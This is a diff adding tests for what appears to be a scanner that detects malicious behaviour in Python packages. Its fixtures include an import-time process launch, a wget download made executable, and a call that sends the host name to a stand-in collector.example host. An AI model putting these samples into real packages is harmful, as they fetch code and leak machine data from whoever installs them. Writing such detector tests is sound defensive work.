@@ -126,3 +126,32 @@ test('setup.py running a program no build needs is high; build tools, queries an
     'when called',
   );
 });
+
+test('a second Python started with inline code on import, and a download made executable, are high', () => {
+  const inline =
+    'import subprocess\nsubprocess.Popen(["python3", "-c", "from helperpkg import stage"], stdout=subprocess.DEVNULL)\n';
+  const spawned = ruleOf(findings(inline, 'demo/__init__.py'), 'process-launch-payload');
+  assert.equal(spawned?.severity, 'high', 'on import');
+  assert.equal(
+    ruleOf(findings(`def f():\n    ${inline.split('\n')[1]}\n`), 'process-launch-payload'),
+    undefined,
+    'when called',
+  );
+  const fetch = 'import os\ndef go():\n    os.system("wget -qO /tmp/t https://files.example/t && chmod +x /tmp/t")\n';
+  assert.equal(ruleOf(findings(fetch), 'download-execute')?.severity, 'high', 'even when only called');
+});
+
+test('the host name sent on import is high even when the destination is built at run time', () => {
+  const source = [
+    'import socket, requests, sys',
+    'BASE = sys.argv[0]',
+    'requests.get("http://" + BASE + ".collector.example/?h=" + socket.gethostname())',
+  ].join('\n');
+  const flow = ruleOf(findings(source, 'demo/__init__.py'), 'exfiltration');
+  assert.equal(flow?.severity, 'high', 'runs on import');
+  const called = `def report():\n    ${source.split('\n')[2]}\n`;
+  assert.notEqual(
+    ruleOf(findings(`${source.split('\n')[0]}\nimport sys\nBASE = sys.argv[0]\n${called}`), 'exfiltration')?.severity,
+    'high',
+  );
+});
